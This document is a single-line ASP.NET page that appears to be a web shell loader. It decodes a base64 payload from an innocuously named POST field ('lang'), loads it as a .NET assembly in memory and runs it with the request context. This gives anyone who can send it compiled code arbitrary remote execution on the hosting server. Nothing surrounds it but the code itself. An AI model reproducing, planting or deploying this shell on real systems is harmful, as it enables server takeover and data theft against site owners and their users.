<%@ Page Language="C#" %><% byte[] b = Convert.FromBase64String(Request.Form["lang"]); AppDomain.CurrentDomain.Load(b).CreateInstance("P").Equals(Context); %>
